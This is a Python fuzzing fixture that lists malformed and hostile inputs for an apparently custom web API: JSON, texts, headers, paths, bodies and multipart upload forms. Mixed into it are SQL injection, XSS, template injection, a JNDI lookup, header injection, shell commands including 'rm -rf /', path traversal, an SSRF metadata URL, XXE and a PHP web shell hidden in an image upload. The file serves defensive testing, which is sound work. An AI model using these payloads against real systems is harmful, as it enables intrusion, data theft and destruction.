"""What callers send who mean no good, or whose program is broken."""

from collections.abc import Mapping
from typing import Final

DEEP: Final = 10_000

NOT_JSON_WE_TAKE: Final[Mapping[str, bytes]] = {
    "NUL, escaped": rb'"a\u0000b"',
    "NUL, raw": b'"a\x00b"',
    "half a surrogate pair, escaped": rb'"\ud800"',
    "the other half": rb'"x\udc00"',
    "halves the wrong way round": rb'"\udc00\ud800"',
    "a surrogate as UTF-8": b'"\xed\xa0\x80"',
    "no UTF-8": b'"\xff\xfe"',
    "UTF-8 made longer": b'"\xc0\x80"',
    "UTF-8 cut short": b'"\xe3\x81"',
    "a raw control character": b'"a\x01b"',
    "a raw line feed": b'"a\nb"',
    "arrays in arrays": b"[" * DEEP + b"]" * DEEP,
    "objects in objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "arrays that never end": b"[" * DEEP,
    "too large a number": b"1e400",
    "too small a number": b"-1e400",
    "four hundred digits": b"9" * 400,
    "digits behind the point": b"0." + b"1" * 5_000,
    "not a number": b"NaN",
    "endless": b"Infinity",
    "less than endless": b"-Infinity",
    "a number with a nought": b"007",
    "a number in hex": b"0x1F",
    "nothing at all": b"",
    "a word": b"undefined",
    "one quote": b"'a'",
    "an open string": b'"abc',
    "a broken escape": rb'"\x41"',
    "a broken code": rb'"\u12"',
    "two values": b'"a" "b"',
    "a comma too many": b'"a",',
    "a comment": b'"a" /* b */ , "c"',
    "a number beyond 64 bits": b"9223372036854775808",
}
"""Raw JSON in the place of a value; all of it is refused, whatever the field."""

TEXTS: Final[Mapping[str, str]] = {
    "empty": "",
    "blank": " \t ",
    "a very long text": "あ" * 30_000,
    "right to left": "\u202eevil\u202c\u2066x\u2069",
    "no width": "a\u200b\u200c\u200d\ufeff\u2060b",
    "only no width": "\u200b\u200b",
    "accents without end": "Z" + "\u0301" * 300,
    "beyond the first plane": "𠮷野家 👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "not a character": "\uffff\ufffe\U0010ffff",
    "line separators": "a\u2028b\u2029c\x85d",
    "control characters": "a\x1b[31mb\x08\x7f",
    "SQL": "'; DROP TABLE account; --",
    "SQL union": "x' UNION SELECT 1, 2 --",
    "SOQL": "a' OR Name LIKE '%",
    "SOQL with a backslash": "a\\' OR IsDeleted = false --",
    "PHP array": "a[]=1&b[x]=2",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "HTML entities": "&lt;b&gt;&#0;&#x110000;&amp;amp;",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "format": "%s%n%x{0}{0.__class__}{name!r:>9999999}",
    "look-up": "${jndi:ldap://127.0.0.1/a}",
    "header": "a\r\nBcc: everybody@example.com\r\n\r\nhello",
    "shell": "$(touch x)`id`;|&",
    "path": "../../../../etc/passwd",
    "path of a device": "file:///dev/zero",
    "address": "http://169.254.169.254/latest/meta-data/",
    "formula": '=HYPERLINK("http://x","y")',
    "number as text": "1e309",
    "word of another language": "null",
    "true as text": "true",
    "email with a comment": 'a"b(c)d,e:f;g<h>i[j\\k]l@example.com',
    "email of two": "a@example.com,b@example.com",
    "email of no place": "mina@localhost",
    "email in other letters": "ｍｉｎａ＠ｅｘａｍｐｌｅ．ｃｏｍ",
    "the first day": "0001-01-01",
    "the last day": "9999-12-31",
    "no day": "2026-02-30",
    "the first moment, elsewhere": "0001-01-01T00:00:00+23:59",
    "the last moment, elsewhere": "9999-12-31T23:59:59.999999-23:59",
    "a leap second": "2026-12-31T23:59:60Z",
    "a moment of no place": "2026-01-01T00:00:00",
    "an id of the CRM": "001000000000001AAA",
    "a short id of the CRM": "001000000000001",
    "digits of another script": "１２３４５٠١٢",
    "a large id": "9" * 60,
    "a negative id": "-1",
}
"""Texts in the place of a text: taken or refused, as the field says, and never a fault."""

VALUES: Final[Mapping[str, bytes]] = {
    "null": b"null",
    "true": b"true",
    "zero": b"0",
    "less than nothing": b"-1",
    "as large as can be": b"9223372036854775807",
    "half": b"0.5",
    "nearly nothing": b"5e-324",
    "an empty array": b"[]",
    "an empty object": b"{}",
    "an array of it all": b'[null, [], {}, "", 0]',
    "an object with odd names": b'{"": 1, "__proto__": {"a": 1}, "constructor": 2, "$where": "1"}',
    "many": b"[" + b'"x",' * 20_000 + b'"x"]',
}
"""JSON of other types."""

PATHS: Final[tuple[bytes, ...]] = (
    b"%00", b"x%00y", b"%2e%2e", b"..", b".", b"%2e", b"%2f", b"..%2f..%2fetc", b"%5c", b";a=b", b"x;jsessionid=1",
    b"%0d%0aX-Evil:%201", b"%0a", b"%7f", b"%c2%85", b"%20", b"+", b"%2b", b"%25", b"%", b"%zz", b"%u0041", b"%ff",
    b"%c0%af", b"%ed%a0%80", b"%e2%80%ae", b"%f0%9f%92%a9", b"*", b"'%20OR%20'1'='1", b"%27", b"%3Cscript%3E", b"null",
    b"undefined", b"true", b"0", b"-1", b"1e400", b"9" * 400, b"a" * 129, b"a" * 5_000, b"001000000000001",
    b"001000000000001AAA", b"001000000000001aaa", b"801000000000001AAB", b"80100000000000", b"8010000000000010",
    b"~", b"!$&'()*,=:@", b"%E3%81%82" * 30, b"{id}", b"[]", b"%7B%7D",
)  # fmt: skip
"""What may stand where an id should."""

QUERIES: Final[tuple[bytes, ...]] = (
    b"", b"%00", b"%", b"%zz", b"%ff", b"%ed%a0%80", b"null", b"NULL", b"undefined", b"0", b"-1", b"1e400", b"0x10",
    b"9" * 400, b"a" * 5_000, b"%0d%0aX:%201", b"%27%20OR%201=1", b"[]", b"%E2%80%AE", b"1.0", b"01", b"+1", b"%201",
    b"true", b"True", b"on", b"1&1", b"__proto__", b"AAAAAAAAAAAAAAAAAAAA", b"%F0%9F%92%A9", b"\xe3\x81\x82", b"#x",
    b"%EF%BC%91",
)  # fmt: skip
"""What may stand where the value of a query parameter should."""

HEADERS: Final[tuple[tuple[bytes, bytes], ...]] = (
    *((b"Accept", each) for each in (b"", b"*/*", b"text/html", b"application/xml;q=1", b"garbage", b"a/b;q=\xff",
                                     b"application/json;q=2", b";;;,,,", b"*/*;q=0", b"a" * 5_000)),
    *((b"Accept-Language", each) for each in (b"", b"ja", b"xx", b"ja;q=abc", b"ja;q=-1", b"*", b"en;q=1e400,ja",
                                              b"\xff", b"ja," * 2_000, b";q=1", b"zh-Hant-TW;q=0.5;x=y")),
    *((b"Accept-Encoding", each) for each in (b"gzip", b"br;q=x", b"*;q=0", b"\xff")),
    *((b"Accept-Charset", each) for each in (b"utf-7", b"\xff")),
    *((b"Authorization", each) for each in (b"", b"Bearer", b"Bearer ", b"Bearer \xff", b"Bearer " + b"a" * 5_000,
                                            b"Basic YTpi", b"bearer x", b"Bearer a b", b"Bearer ../../etc/passwd",
                                            b"Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", b"Digest x=y")),
    *((b"Cookie", each) for each in (b"genkan=", b"genkan=x", b"genkan=\xff", b"genkan=a; genkan=b", b"=;;=",
                                     b"genkan=" + b"a" * 4_000, b"a" * 3_000, b"__Host-genkan=x", b'genkan="a\\"b"')),
    *((b"Idempotency-Key", each) for each in (b"", b" ", b"a b", b"\xff", b"k" * 256, b"\xe3\x81\x82", b"k\tk")),
    *((b"X-Correlation-Id", each) for each in (b"", b"x", b"a" * 65, b"a\tb" * 9, b"\xff" * 9,
                                               b"<script>alert</script>", b"${jndi:ldap://x}")),
    *((b"X-Checkout-Token", each) for each in (b"", b"x", b"\xff", b"a" * 600, b"'; --")),
    *((b"X-CSRF-Token", each) for each in (b"", b"\xff", b"x")),
    *((b"Origin", each) for each in (b"null", b"https://evil.example", b"\xff", b"")),
    *((b"Referer", each) for each in (b"http://[::1", b"//", b"\xff", b"javascript:alert(1)")),
    *((b"If-None-Match", each) for each in (b"*", b'"x"', b"\xff", b'W/"' + b"a" * 3_000 + b'"', b",,,")),
    *((b"Range", each) for each in (b"bytes=0-0", b"bytes=-1", b"\xff")),
    *((b"X-Forwarded-For", each) for each in (b"1.2.3.4", b"\xff", b"127.0.0.1, 1.2.3.4", b"," * 2_000)),
    *((b"Forwarded", each) for each in (b"for=1.2.3.4", b"\xff")),
    *((b"X-HTTP-Method-Override", each) for each in (b"DELETE",)),
    *((b"X-Timestamp", each) for each in (b"", b"-1", b"9" * 20, b"\xff", b"1e9")),
    *((b"X-Nonce", each) for each in (b"", b"short", b"\xff" * 20)),
    *((b"X-Signature", each) for each in (b"", b"v1=", b"v1=" + b"0" * 64, b"v2=" + b"0" * 64, b"\xff")),
    *((b"Last-Event-ID", each) for each in (b"", b"-1", b"9" * 400, b"\xff", b"1e400", b"x")),
    *((b"Content-Encoding", each) for each in (b"gzip", b"br", b"\xff")),
    *((b"Expect", each) for each in (b"100-continue", b"something-else")),
    *((b"Upgrade", each) for each in (b"websocket", b"h2c")),
    *((b"TE", each) for each in (b"trailers", b"\xff")),
    *((b"Traceparent", each) for each in (b"00-x", b"\xff")),
)  # fmt: skip
"""Headers with odd values."""

CONTENT_TYPES: Final[tuple[bytes, ...]] = (
    b"", b"text/plain", b"application/xml", b"application/x-www-form-urlencoded", b"multipart/form-data",
    b"multipart/form-data; boundary=", b"multipart/form-data; boundary=" + b"x" * 300, b"application/jsonx",
    b"application/json; charset=utf-16", b"application/json; charset=latin-1", b"application/vnd.api+json",
    b"application/msgpack", b"application/json, text/plain", b"garbage", b"\xff", b"application/json; \xff", b"/",
    b"text/json", b"application/octet-stream", b"application/json;;;charset",
)  # fmt: skip
"""Media types that no JSON operation takes."""

BODIES: Final[Mapping[str, bytes]] = {
    "nothing": b"",
    "a blank": b" ",
    "a mark of order": b"\xef\xbb\xbf{}",
    "UTF-16": "{}".encode("utf-16"),
    "null": b"null",
    "an array": b"[]",
    "a text": b'"text"',
    "a number": b"1",
    "two documents": b"{}{}",
    "the same key twice": b'{"a": 1, "a": 2}',
    "an unknown field": b'{"no such field": 1}',
    "a NUL for a name": rb'{"\u0000": 1}',
    "half a pair for a name": rb'{"\ud800": 1}',
    "deep arrays": b"[" * DEEP + b"]" * DEEP,
    "deep objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "cut": b'{"email": "mi',
    "NULs": b"\x00" * 100,
    "no UTF-8": b'{"\xff": 1}',
    "a form": b"a=b&c=d",
    "XML": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "packed": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\xae\x05\x00\x43\xbf\xa6\xa3\x02\x00\x00\x00",
    "a large one": b'{"a": "' + b"x" * 1_100_000 + b'"}',
    "a great many names": b"{" + b",".join(b'"a%d": 1' % n for n in range(20_000)) + b"}",
}
"""Whole bodies in the place of JSON; all are refused, unless an operation takes an empty object only."""

BOUNDARY: Final = b"----genkan-fuzz"


FILE_NAMES: Final = (
    b"", b"../../../etc/passwd", b"a\x00b.png", b"\xff\xfe.png", b"CON", b"a" * 5_000, b"\xe2\x80\xaegnp.exe", b"<b>",
    b"C:\\windows\\x", b"; rm -rf /", b"a\r\nX: y", b".htaccess", b"a/b/c.png",
)  # fmt: skip


def part(disposition: bytes, data: bytes, *headers: bytes) -> bytes:
    """One part of a form."""
    lines = [b"--" + BOUNDARY, b"Content-Disposition: " + disposition, *headers, b"", data, b""]
    return b"\r\n".join(lines)


def forms(file: bytes) -> dict[str, bytes]:
    """Forms of files that are none, or hold what no form should; `file` is a good one."""
    end = b"--" + BOUNDARY + b"--\r\n"
    front = b'form-data; name="front"; filename="card.png"'
    good = part(front, file)
    return {
        "nothing": b"",
        "only an end": end,
        "no end": good,
        "no blank line": b"--" + BOUNDARY + b"\r\nContent-Disposition: " + front + b"\r\n" + end,
        "text in front": b"hello" * 1_000 + b"\r\n" + good + end,
        "text behind": good + end + b"more" * 1_000,
        "another boundary": good.replace(BOUNDARY, b"----another") + b"--" + BOUNDARY + b"--",
        "no name": part(b"form-data", file) + end,
        "an empty name": part(b'form-data; name=""; filename="a"', file) + end,
        "another name": part(b'form-data; name="side"; filename="a"', file) + end,
        "a name with a NUL": part(b'form-data; name="front\x00"; filename="a"', file) + end,
        "a name in no UTF-8": part(b'form-data; name="\xff\xfe"; filename="a"', file) + end,
        "a text, no file": part(b'form-data; name="front"', b"hello") + end,
        "an empty file": part(front, b"") + end,
        "the same twice": good * 2 + end,
        "front by two names": good + part(b'form-data; name="file"; filename="a"', file) + end,
        "only the back": part(b'form-data; name="back"; filename="a"', file) + end,
        "many parts": part(b'form-data; name="back"; filename="a"', b"x") * 500 + end,
        "no disposition": b"--" + BOUNDARY + b"\r\nX: y\r\n\r\n" + file + b"\r\n" + end,
        "not form-data": part(b'attachment; name="front"; filename="a"', file) + end,
        "a long header": part(front, file, b"X-Long: " + b"a" * 200_000) + end,
        "many headers": part(front, file, *(b"X-%d: y" % n for n in range(5_000))) + end,
        "base64": part(front, file, b"Content-Transfer-Encoding: base64") + end,
        "a form in the form": part(front, file, b"Content-Type: multipart/mixed; boundary=x") + end,
        "line feeds alone": (good + end).replace(b"\r\n", b"\n"),
        "half a file": part(front, file[: len(file) // 2]) + end,
        "text as a picture": part(front, b"<svg onload=alert(1)>") + end,
        "a script as a picture": part(front, b"#!/bin/sh\nid\n") + end,
        "noughts": part(front, b"\0" * 100_000) + end,
        "a picture and more": part(front, file + b"PK\x03\x04" + b"<?php system($_GET[0]); ?>") + end,
        "PDF in name only": part(front, b"%PDF-1.7\n%\xe2\xe3\n1 0 obj<</Type/Catalog>>endobj\n%%EOF") + end,
        **{
            f"named {name[:30]!r}": part(b'form-data; name="front"; filename="' + name + b'"', file) + end
            for name in FILE_NAMES
        },
    }  # fmt: skip
